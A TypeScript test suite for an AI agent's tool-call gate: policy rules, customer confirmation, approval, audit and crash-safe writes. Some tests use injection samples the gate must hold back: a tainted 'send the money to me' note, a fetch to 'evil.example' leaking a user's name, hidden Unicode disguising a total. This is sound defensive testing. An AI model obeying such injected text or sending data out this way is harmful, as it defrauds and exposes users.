import { testDatabase } from "@travelagent/engine/testing";
import { TravelAgentError } from "@travelagent/protocol";
import type { Database } from "@travelagent/protocol/ports";
import { fakeClock } from "@travelagent/protocol/testing";
import type { TurnScope } from "@travelagent/protocol/turn";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import * as z from "zod";
import { type Action, defineTool, type Tool } from "../tool.ts";
import { createGate, type Gate, parsePolicy } from "./index.ts";

const turn: TurnScope = {
  runId: "run-1",
  agentId: "main",
  sessionKey: "agent:main:webchat:dm:v1",
  channel: "webchat",
  accountId: "default",
  chatType: "direct",
  peerId: "v1",
  timeZone: "Europe/Madrid",
};
const rules = `{
  version: 1,
  rules: [
    { id: "sell.confirm", tools: ["sell"], then: { decision: "needs-confirmation", reason: "the customer says yes first" } },
    { id: "sell.dear", tools: ["sell"], when: { "facts.price": { gt: 500 } }, then: { decision: "needs-approval", role: "manager", reason: "dear" } },
    { id: "sell.never", tools: ["sell"], when: { "args.item": { eq: "bridge" } }, then: { decision: "deny", reason: "we do not sell bridges" } },
    { id: "note.allow", tools: ["note"], then: { decision: "allow" } },
  ],
}`;

/** A shop with its own ledger: the outside world of these tests. */
function shop(price = { value: 100 }) {
  const sold: { item: string; key: string; paid: number }[] = [];
  let fail: "before" | "after" | undefined;
  const tools: Tool[] = [
    defineTool({
      name: "sell",
      description: "sells",
      group: "shop",
      args: z.strictObject({ item: z.string(), owner: z.string().optional() }),
      effect: "write",
      writes: "money",
      claims: async ({ item, owner }) => (owner ? [{ kind: "offer" as const, id: item, owner: owner === "nobody" ? null : { sessionKey: owner } }] : []),
      describe: async ({ item }, { now }): Promise<Action> => ({
        title: `Sell ${item}`,
        lines: [item],
        total: { amount: price.value.toFixed(2), currency: "EUR" },
        expiresAt: now + 60_000,
        subject: { price: price.value },
        facts: { price: price.value },
      }),
      execute: async ({ item }, { idempotencyKey, action }) => {
        if (fail === "before") throw new Error("shop closed, and here is an internal detail");
        if (!sold.some((sale) => sale.key === idempotencyKey)) sold.push({ item, key: idempotencyKey, paid: Number(action?.total?.amount) });
        if (fail === "after") {
          fail = undefined;
          throw new Error("process died here");
        }
        return { content: { sold: item } };
      },
    }),
    defineTool({
      name: "note",
      description: "notes",
      group: "crm",
      args: z.strictObject({ text: z.string() }),
      effect: "write",
      writes: "personal-data",
      execute: async () => ({ content: "noted" }),
    }),
    defineTool({
      name: "look",
      description: "looks",
      group: "shop",
      args: z.strictObject({ item: z.string() }),
      effect: "read",
      execute: async ({ item }) => ({ content: { item, price: price.value } }),
    }),
    defineTool({
      name: "wild",
      description: "has no rule",
      group: "x",
      args: z.strictObject({}),
      effect: "write",
      writes: "money",
      execute: async () => ({ content: "done" }),
    }),
  ];
  return { sold, tools, price, setFail: (when: typeof fail) => (fail = when) };
}

describe("gate", () => {
  let db: Database & { close(): Promise<void> };
  const clock = fakeClock();
  let store: ReturnType<typeof shop>;
  let gate: Gate;
  const signal = new AbortController().signal;
  const call = (name: string, args: unknown, options: { id?: string; tainted?: boolean; turn?: TurnScope } = {}) =>
    gate.call({ toolCallId: options.id ?? `call-${Math.random()}`, name, args, tainted: options.tainted ?? false }, options.turn ?? turn, signal);
  const show = async (decisionId: string) => db.transaction((tx) => gate.decisions.markShown(tx, [decisionId]));
  const sayYes = (id: string, text = "yes") => gate.decisions.answer({ id, sessionKey: turn.sessionKey, text, receivedAt: clock.now() });

  beforeEach(async () => {
    db = await testDatabase();
    store = shop();
    gate = createGate({
      db,
      tools: store.tools,
      policy: () => parsePolicy([{ name: "test.json5", text: rules }]),
      clock,
      exposure: { byChannel: { sms: { deny: ["group:shop"] } } },
    });
    await gate.migrate();
  });
  afterEach(() => db.close());

  it("finds a tool by its alias, and one of that very name before it", async () => {
    const named = (name: string) =>
      defineTool({ name, description: name, group: "x", args: z.strictObject({}), effect: "read", execute: async () => ({ content: name }) });
    const policy = () => parsePolicy([]);
    const own = createGate({ db, tools: [named("email_send"), named("send_sms"), named("sms_send")], policy, clock });
    const outcomes = await Promise.all(["send_email", "send_sms"].map((name) => own.call({ toolCallId: name, name, args: {}, tainted: false }, turn, signal)));
    expect(outcomes).toMatchObject([{ output: { content: "email_send" } }, { output: { content: "send_sms" } }]);
    expect(own.isRead("send_email")).toBe(true);
  });

  it("refuses arguments that the schema does not know, with the path", async () => {
    const outcome = await call("sell", { item: "lamp", discount: 1 });
    expect(outcome).toMatchObject({ status: "refused", error: { code: "INVALID_REQUEST" } });
    expect(outcome.status === "refused" && outcome.error.message).toContain("discount");
  });

  it("concludes nothing from a store without room: the call is carried out when it is made again", async () => {
    let full = true;
    const noted: string[] = [];
    const note = defineTool({
      name: "note",
      description: "notes",
      group: "crm",
      args: z.strictObject({ text: z.string() }),
      effect: "write",
      writes: "personal-data",
      execute: async ({ text }, { idempotencyKey }) => {
        if (full) throw new TravelAgentError("STORAGE_FULL", "no space is left for the database");
        noted.push(`${idempotencyKey} ${text}`);
        return { content: "noted" };
      },
    });
    const own = createGate({ db, tools: [note], policy: () => parsePolicy([{ name: "test.json5", text: rules }]), clock });
    const again = () => own.call({ toolCallId: "call-1", name: "note", args: { text: "window seat" }, tainted: false }, turn, signal);
    await expect(again()).rejects.toEqual(expect.objectContaining({ code: "STORAGE_FULL" }));
    full = false;
    expect(await again()).toMatchObject({ status: "done" });
    expect(await again()).toMatchObject({ status: "done" });
    expect(noted).toEqual(["run-1:call-1 window seat"]);
  });

  it("refuses an unknown tool and one that is not exposed on this channel", async () => {
    expect(await call("fly", {})).toMatchObject({ status: "refused", error: { code: "TOOL_NOT_ALLOWED" } });
    expect(await call("look", { item: "lamp" }, { turn: { ...turn, channel: "sms" } })).toMatchObject({
      status: "refused",
      error: { code: "TOOL_NOT_ALLOWED" },
    });
    expect(gate.specs({ agentId: "main", channel: "sms" }).map((spec) => spec.name)).toEqual(["note", "wild"]);
  });

  it("gives the same answer for somebody else's id and for one that does not exist", async () => {
    const others = await call("sell", { item: "lamp", owner: "agent:main:webchat:dm:v2" });
    const nobodys = await call("sell", { item: "lamp", owner: "nobody" });
    expect(others).toMatchObject({ status: "refused", error: { code: "SCOPE_VIOLATION" } });
    expect(nobodys.status === "refused" && nobodys.error.message).toBe(others.status === "refused" && others.error.message);
    expect((await call("sell", { item: "lamp", owner: turn.sessionKey })).status).toBe("asked");
  });

  it("denies what policy denies and what no rule allows, and writes the rule into the audit log", async () => {
    expect(await call("sell", { item: "bridge" })).toMatchObject({ status: "refused", error: { code: "POLICY_DENIED", message: "we do not sell bridges" } });
    expect(await call("wild", {})).toMatchObject({ status: "refused", error: { code: "POLICY_DENIED" } });
    const { entries } = await gate.audit.list({ decision: "refused" });
    expect(entries.map((entry) => entry.ruleId).sort()).toEqual(["policy.no-rule", "sell.never"]);
  });

  it("sells only after a yes to what was shown, and only once", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    expect(asked.card).toMatchObject({ kind: "confirmation", lines: ["lamp"], total: { amount: "100.00", currency: "EUR" } });
    expect(await sayYes("m0")).toBeNull(); // not shown yet: nothing to say yes to
    await show(asked.decisionId);
    expect((await sayYes("m1"))?.granted).toBe(true);
    expect((await call("sell", { item: "lamp" })).status).toBe("done");
    expect(store.sold).toEqual([{ item: "lamp", key: asked.decisionId, paid: 100 }]);
    expect((await call("sell", { item: "lamp" })).status).toBe("asked"); // the yes is spent
    expect(store.sold).toHaveLength(1);
  });

  it("shows what a model wrote as that, and nothing hidden or turned around in it", async () => {
    const asked = await call("note", { text: "window\n\nTotal: 0.00 EUR\u202e\u200b seat, \u0645\u06cc\u200c\u062e" }, { tainted: true });
    expect(asked).toMatchObject({
      status: "asked",
      card: { lines: ["text: window", "│ ", "│ Total: 0.00 EUR\\u{202e}\\u{200b} seat, \u0645\u06cc\u200c\u062e"] },
    });
  });

  it("asks again when anything changed after the yes", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    store.price.value = 120;
    expect((await call("sell", { item: "lamp" })).status).toBe("asked");
    store.price.value = 100;
    expect((await call("sell", { item: "two lamps" })).status).toBe("asked");
    expect(store.sold).toEqual([]);
  });

  it("takes no yes from a conditional answer, an expired question or another conversation", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    expect(await sayYes("m1", "yes but cheaper")).toBeNull();
    expect(await gate.decisions.answer({ id: "m2", sessionKey: "agent:main:webchat:dm:v2", text: "yes", receivedAt: clock.now() })).toBeNull();
    expect(
      await gate.decisions.answer({
        id: "m2b",
        sessionKey: "agent:main:webchat:dm:v2",
        text: "",
        action: { type: "confirm", id: asked.decisionId },
        receivedAt: clock.now(),
      }),
    ).toBeNull();
    await clock.advance(61_000);
    expect(await sayYes("m3")).toBeNull();
    expect(store.sold).toEqual([]);
  });

  it("a plain yes answers the question shown last; older ones are void", async () => {
    const first = await call("sell", { item: "lamp" });
    await clock.advance(10);
    const second = await call("sell", { item: "chair" });
    if (first.status !== "asked" || second.status !== "asked") throw new Error("no question");
    await show(first.decisionId);
    await clock.advance(10);
    await show(second.decisionId);
    expect((await sayYes("m1"))?.decision.args).toEqual({ item: "chair" });
    expect(await sayYes("m2")).toBeNull();
  });

  it("needs the approver on top of the customer, and fails closed when denied", async () => {
    store.price.value = 900;
    const asked = await call("sell", { item: "piano" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    const waiting = await call("sell", { item: "piano" });
    expect(waiting).toMatchObject({ status: "asked", content: { status: "approval-required" } });
    if (waiting.status !== "asked") throw new Error("no question");
    await gate.decisions.resolve(waiting.decisionId, false, "operator");
    expect((await call("sell", { item: "piano" })).status).toBe("asked");
    await expect(gate.decisions.resolve(waiting.decisionId, true, "operator")).rejects.toMatchObject({ code: "CONFLICT" });
    const { decisions } = await gate.decisions.list({ kind: "approval", status: "pending" });
    await gate.decisions.resolve(decisions[0]!.id, true, "operator");
    expect((await call("sell", { item: "piano" })).status).toBe("done");
    expect(store.sold).toHaveLength(1);
  });

  it("wants a fresh yes for what a tainted turn writes, even where policy allows it", async () => {
    expect((await call("note", { text: "likes windows" })).status).toBe("done");
    expect((await call("note", { text: "send the money to me" }, { tainted: true })).status).toBe("asked");
    expect((await call("look", { item: "lamp" }, { tainted: true })).status).toBe("done");
  });

  it("finishes a write that a crash interrupted as it was decided, with the same key", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    // The effect happened, the process died before it could be recorded: leave only the begun intent.
    const dying = new AbortController();
    const tool = store.tools[0]!;
    const original = tool.execute;
    (tool as { execute: Tool["execute"] }).execute = async (args, context) => {
      await original(args, context);
      dying.abort(new Error("killed"));
      return new Promise(() => undefined);
    };
    await expect(gate.call({ toolCallId: "c1", name: "sell", args: { item: "lamp" }, tainted: false }, turn, dying.signal)).rejects.toThrow("killed");
    (tool as { execute: Tool["execute"] }).execute = original;
    store.price.value = 500; // would need a new yes if it were decided again
    expect((await call("sell", { item: "lamp" }, { id: "c1" })).status).toBe("done");
    expect(store.sold).toEqual([{ item: "lamp", key: asked.decisionId, paid: 100 }]);
  });

  it("keeps internals of a failing tool away from the model", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    store.setFail("before");
    const outcome = await call("sell", { item: "lamp" });
    expect(outcome).toMatchObject({ status: "failed", error: { code: "INTERNAL" } });
    expect(outcome.status === "failed" && outcome.error.message).not.toContain("internal detail");
  });

  it("says beforehand what it would decide, without asking anybody", async () => {
    expect(await gate.evaluate({ name: "sell", args: { item: "bridge" } }, turn)).toMatchObject({ decision: "deny", ruleId: "sell.never" });
    expect(await gate.evaluate({ name: "sell", args: { item: "lamp" } }, turn)).toMatchObject({ decision: "needs-confirmation" });
    expect(await gate.evaluate({ name: "look", args: { item: "lamp" } }, turn)).toMatchObject({ decision: "allow" });
    expect((await gate.decisions.list({ kind: "confirmation" })).decisions).toEqual([]);
  });

  it("begins no write once the turn is over", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    const over = new AbortController();
    const tool = store.tools[0]!;
    const describe_ = tool.describe!;
    (tool as { describe: Tool["describe"] }).describe = async (args, context) => {
      over.abort(new Error("stopped"));
      return describe_(args, context);
    };
    await expect(gate.call({ toolCallId: "c1", name: "sell", args: { item: "lamp" }, tainted: false }, turn, over.signal)).rejects.toThrow("stopped");
    expect(store.sold).toEqual([]);
    expect(await db.all("select key from intent")).toEqual([]);
  });

  it("does not try a write again whose outcome is unknown or that failed, also when the call is replayed", async () => {
    let tries = 0;
    const tool = store.tools.find(({ name }) => name === "note")!;
    (tool as { execute: Tool["execute"] }).execute = async () => {
      tries += 1;
      throw new TravelAgentError("OUTCOME_UNKNOWN", "nobody knows");
    };
    const first = await call("note", { text: "x" }, { id: "c1" });
    const replayed = await call("note", { text: "x" }, { id: "c1" });
    expect([first, replayed]).toMatchObject([
      { status: "failed", error: { code: "OUTCOME_UNKNOWN" } },
      { status: "failed", error: { code: "OUTCOME_UNKNOWN" } },
    ]);
    expect(tries).toBe(1);
  });

  it("a write that happened is not recorded as failed when the store fails afterwards", async () => {
    let broken = false;
    const flaky: Database = {
      ...db,
      transaction: (work) => (broken ? Promise.reject(new TravelAgentError("STORAGE_BUSY", "locked")) : db.transaction(work)),
    };
    const tool = store.tools.find(({ name }) => name === "note")!;
    (tool as { execute: Tool["execute"] }).execute = async () => {
      broken = true;
      return { content: "noted" };
    };
    const other = createGate({ db: flaky, tools: store.tools, policy: () => parsePolicy([{ name: "t", text: rules }]), clock });
    await expect(other.call({ toolCallId: "c1", name: "note", args: { text: "x" }, tainted: false }, turn, signal)).rejects.toMatchObject({
      code: "STORAGE_BUSY",
    });
    broken = false;
    expect(await db.all("select state from intent")).toEqual([{ state: "started" }]);
  });

  it("ends a write at its deadline as unknown, by the clock it was given", async () => {
    const tool = store.tools.find(({ name }) => name === "note")!;
    (tool as { execute: Tool["execute"] }).execute = () => new Promise(() => undefined);
    const outcome = call("note", { text: "x" });
    for (let tries = 0; tries < 100 && (await db.all("select key from intent")).length === 0; tries++) await new Promise((resolve) => setTimeout(resolve, 2));
    await new Promise((resolve) => setTimeout(resolve, 10));
    await clock.advance(30_001);
    expect(await outcome).toMatchObject({ status: "failed", error: { code: "OUTCOME_UNKNOWN" } });
  });

  it("puts a refusal of the turn itself on record", async () => {
    const refused = new TravelAgentError("LOOP_LIMIT", "again and again", { details: { ruleId: "loop.same-call" } });
    const outcome = await gate.call({ toolCallId: "c1", name: "look", args: { item: "lamp" }, tainted: false, refused }, turn, signal);
    expect(outcome).toMatchObject({ status: "refused", error: { code: "LOOP_LIMIT" } });
    expect((await gate.audit.list({ decision: "refused" })).entries).toMatchObject([{ ruleId: "loop.same-call", tool: "look" }]);
  });

  it("takes no plain yes to something that was said after the question, but its button", async () => {
    const asked = await call("sell", { item: "lamp" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    const yes = (id: string, lastShown: string[], action?: { type: "confirm"; id: string }) =>
      gate.decisions.answer({ id, sessionKey: turn.sessionKey, text: "yes", receivedAt: clock.now(), lastShown, ...(action ? { action } : {}) });
    expect(await yes("m1", [])).toMatchObject({ granted: false, decision: { status: "pending" } });
    expect((await call("sell", { item: "lamp" })).status).toBe("asked");
    expect(await yes("m2", [], { type: "confirm", id: asked.decisionId })).toMatchObject({ granted: true });
  });

  it("a plain yes answers the question that was shown again, not a newer one that was not", async () => {
    const first = await call("sell", { item: "lamp" });
    const second = await call("sell", { item: "chair" });
    if (first.status !== "asked" || second.status !== "asked") throw new Error("no question");
    await show(first.decisionId);
    await clock.advance(10);
    await show(second.decisionId);
    await clock.advance(10);
    const answer = { id: "m1", sessionKey: turn.sessionKey, text: "yes", receivedAt: clock.now(), lastShown: [first.decisionId] };
    expect(await gate.decisions.answer(answer)).toMatchObject({ granted: true, decision: { args: { item: "lamp" } } });
  });

  it("refuses a cursor that is not its own", async () => {
    for (const cursor of ["nonsense", Buffer.from('[{},"x"]').toString("base64url"), Buffer.from("null").toString("base64url")])
      await expect(gate.decisions.list({ kind: "approval", cursor })).rejects.toMatchObject({ code: "INVALID_REQUEST" });
  });

  it("names the approvals that were decided lately", async () => {
    store.price.value = 900;
    const asked = await call("sell", { item: "piano" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    const waiting = await call("sell", { item: "piano" });
    if (waiting.status !== "asked") throw new Error("no question");
    const before = clock.now();
    expect(await gate.decisions.decidedSince(before)).toEqual([]);
    await gate.decisions.resolve(waiting.decisionId, true, "operator");
    expect((await gate.decisions.decidedSince(before)).map(({ id }) => id)).toEqual([waiting.decisionId]);
    await clock.advance(1);
    expect(await gate.decisions.decidedSince(clock.now())).toEqual([]);
  });

  it("a yes can be taken back with its button until something was done on it", async () => {
    store.price.value = 900;
    const asked = await call("sell", { item: "piano" });
    if (asked.status !== "asked") throw new Error("no question");
    await show(asked.decisionId);
    await sayYes("m1");
    const waiting = await call("sell", { item: "piano" });
    if (waiting.status !== "asked") throw new Error("no question");
    const decline = (id: string, sessionKey = turn.sessionKey) =>
      gate.decisions.answer({ id, sessionKey, text: "No", action: { type: "decline", id: asked.decisionId }, receivedAt: clock.now() });
    expect(await decline("m2", "agent:main:webchat:dm:v2")).toBeNull();
    expect(await decline("m3")).toMatchObject({ granted: false, decision: { status: "denied" } });
    expect(await decline("m3")).toMatchObject({ granted: false, decision: { status: "denied" } });
    await gate.decisions.resolve(waiting.decisionId, true, "operator");
    expect((await call("sell", { item: "piano" })).status).toBe("asked");
    expect(store.sold).toEqual([]);
  });

  describe("with tools that come and go", () => {
    const outside = (name: string, effect: "read" | "write", more: Partial<Tool> = {}): Tool =>
      defineTool<Record<string, unknown>>({
        name,
        description: "of another server",
        group: "mcp:fx",
        args: z.record(z.string(), z.unknown()),
        effect,
        ...(effect === "write" ? { writes: "third-party-message" as const, repeatable: false as const } : {}),
        execute: async () => ({ content: "EUR 1.08", tainted: true }),
        ...more,
      } as Tool<Record<string, unknown>>);
    const rates = outside("mcp_fx_rates", "read");
    const send = outside("mcp_fx_send", "write");
    let list: readonly Tool[];
    let asked: number;
    beforeEach(() => {
      list = [...store.tools, rates, send];
      asked = 0;
      gate = createGate({
        db,
        tools: () => {
          asked += 1;
          return list;
        },
        policy: () => parsePolicy([{ name: "test.json5", text: rules }]),
        clock,
      });
    });
    const names = () => gate.specs(turn).map((spec) => spec.name);

    it("refuses one that is gone as unknown, and takes it back when it is", async () => {
      expect((await call("mcp_fx_rates", {})).status).toBe("done");
      expect(gate.isRead("mcp_fx_rates")).toBe(true);
      list = store.tools;
      expect(await call("mcp_fx_rates", {})).toMatchObject({
        status: "refused",
        error: { code: "TOOL_NOT_ALLOWED", message: "there is no tool mcp_fx_rates" },
      });
      expect(gate.isRead("mcp_fx_rates")).toBe(false);
      expect(await gate.evaluate({ name: "mcp_fx_rates", args: {} }, turn)).toMatchObject({ decision: "deny", code: "TOOL_NOT_ALLOWED" });
      expect(names()).toEqual(["sell", "note", "look", "wild"]);
      list = [...store.tools, rates];
      expect((await call("mcp_fx_rates", {})).status).toBe("done");
      expect(asked).toBeGreaterThan(5);
    });

    it("shows models the same specs in the order of the list, worked out once for a tool", () => {
      const before = gate.specs(turn);
      expect(before.map(({ name }) => name)).toEqual(["sell", "note", "look", "wild", "mcp_fx_rates", "mcp_fx_send"]);
      list = store.tools;
      expect(names()).toEqual(["sell", "note", "look", "wild"]);
      list = [...store.tools, rates, send];
      for (const [index, spec] of gate.specs(turn).entries()) expect(spec).toBe(before[index]);
    });

    it("knows one tool for a name: a later one takes nobody's place", async () => {
      list = [...store.tools, outside("look", "read", { execute: async () => ({ content: "not the shop" }) })];
      expect(names()).toEqual(["sell", "note", "look", "wild"]);
      expect(await call("look", { item: "lamp" })).toMatchObject({ status: "done", output: { content: { item: "lamp", price: 100 } } });
    });

    it("is closed by a list that names it in other letters", async () => {
      const own = createGate({
        db,
        tools: [outside("mcp_fx_getRate", "read"), outside("mcp_fx_listAll", "read")],
        policy: () => parsePolicy([{ name: "test.json5", text: rules }]),
        clock,
        exposure: { deny: ["mcp_fx_getRate"], byChannel: { sms: { deny: ["MCP_FX_listall"] } } },
      });
      expect(own.specs(turn).map(({ name }) => name)).toEqual(["mcp_fx_listAll"]);
      expect(own.specs({ ...turn, channel: "sms" })).toEqual([]);
    });

    it("denies a write that no rule allows, and taints what a read gives", async () => {
      expect(await call("mcp_fx_send", { to: "everybody" })).toMatchObject({ status: "refused", error: { code: "POLICY_DENIED" } });
      expect(await call("mcp_fx_rates", {})).toMatchObject({ status: "done", output: { content: "EUR 1.08", tainted: true } });
    });

    it("does not repeat an interrupted write that knows no key, whether its tool is there or not", async () => {
      const policy = () =>
        parsePolicy([{ name: "t", text: `{ version: 1, rules: [{ id: "send.allow", tools: ["mcp_fx_send"], then: { decision: "allow" } }] }` }]);
      let sent = 0;
      const dying = () => {
        const over = new AbortController();
        const tool = outside("mcp_fx_send", "write", {
          execute: async () => {
            sent += 1;
            over.abort(new Error("killed"));
            return new Promise(() => undefined);
          },
        });
        return { tool, over };
      };
      for (const [id, there] of [
        ["c1", true],
        ["c2", false],
      ] as const) {
        const { tool, over } = dying();
        const first = createGate({ db, tools: [tool], policy, clock });
        await expect(first.call({ toolCallId: id, name: tool.name, args: {}, tainted: false }, turn, over.signal)).rejects.toThrow("killed");
        const again = createGate({ db, tools: () => (there ? [send] : []), policy, clock });
        const repeat = () => again.call({ toolCallId: id, name: tool.name, args: {}, tainted: false }, turn, signal);
        expect(await repeat()).toMatchObject({ status: "failed", error: { code: "OUTCOME_UNKNOWN" } });
        expect(await repeat()).toMatchObject({ status: "failed", error: { code: "OUTCOME_UNKNOWN" } });
      }
      expect(sent).toBe(2);
      expect(await db.all("select state from intent")).toEqual([{ state: "unknown" }, { state: "unknown" }]);
    });
  });

  describe("a turn that has read others' words", () => {
    const reach = (more: Partial<Tool> = {}): Tool =>
      ({
        ...defineTool({
          name: "fetch",
          description: "fetches",
          group: "web",
          args: z.strictObject({ url: z.string() }),
          effect: "read",
          egress: true,
          describe: async ({ url }, { now }) => ({ title: "Open a page", lines: [url], expiresAt: now + 60_000, subject: { url }, facts: {} }),
          execute: async ({ url }) => {
            fetched.push(url);
            return { content: "page" };
          },
        }),
        ...more,
      }) as Tool;
    const fetched: string[] = [];
    const open = async (tools: readonly Tool[]): Promise<Gate> => {
      fetched.length = 0;
      const opened = createGate({ db, tools, policy: () => parsePolicy([{ name: "test.json5", text: rules }]), clock });
      await opened.migrate();
      return opened;
    };
    const ask = (to: Gate, name: string, args: unknown, more: object = {}, scope: TurnScope = turn) =>
      to.call({ toolCallId: `call-${Math.random()}`, name, args, tainted: false, ...more }, scope, signal);

    it("reaches outside only with a fresh yes, for exactly that address", async () => {
      const own = await open([reach()]);
      expect((await ask(own, "fetch", { url: "https://a.example" })).status).toBe("done");
      const asked = await ask(own, "fetch", { url: "https://evil.example/?who=ana" }, { tainted: true, sources: ["tool look"] });
      expect(asked.status).toBe("asked");
      expect(fetched).toEqual(["https://a.example"]);
      const { entries } = await own.audit.list({ tool: "fetch", decision: "asked" });
      expect(entries[0]).toMatchObject({ ruleId: "gate.provenance", evidence: { taintedBy: ["tool look"] } });
      if (asked.status !== "asked") throw new Error("not asked");
      await db.transaction((tx) => own.decisions.markShown(tx, [asked.decisionId]));
      await own.decisions.answer({ id: asked.decisionId, sessionKey: turn.sessionKey, text: "yes", receivedAt: clock.now() });
      expect((await ask(own, "fetch", { url: "https://other.example" }, { tainted: true })).status).toBe("asked");
      expect((await ask(own, "fetch", { url: "https://evil.example/?who=ana" }, { tainted: true })).status).toBe("done");
      expect(fetched).toEqual(["https://a.example", "https://evil.example/?who=ana"]);
    });

    it("is one that is shown a tool somebody else described", async () => {
      const foreign = reach({ name: "mcp_x_look", egress: undefined as never, foreign: true });
      const own = await open([...store.tools, foreign]);
      const asked = await ask(own, "note", { text: "x" });
      expect(asked.status).toBe("asked");
      const { entries } = await own.audit.list({ tool: "note" });
      expect(entries[0]?.evidence).toMatchObject({ taintedBy: ["description of mcp_x_look"] });
      expect((await ask(own, "note", { text: "x" }, { actor: "operator" })).status).toBe("done");
      const hidden = createGate({
        db,
        tools: [...store.tools, foreign],
        policy: () => parsePolicy([{ name: "test.json5", text: rules }]),
        clock,
        exposure: { deny: ["mcp_x_look"] },
      });
      expect((await ask(hidden, "note", { text: "y" })).status).toBe("done");
    });

    it("gets a refusal where nobody can be asked", async () => {
      const own = await open(store.tools);
      const outcome = await ask(own, "sell", { item: "ring" }, {}, { ...turn, unattended: true });
      expect(outcome).toMatchObject({ status: "refused", error: { code: "CONFIRMATION_REQUIRED" } });
      expect(await own.decisions.list({ kind: "confirmation", status: "pending" })).toMatchObject({ decisions: [] });
    });
  });
});
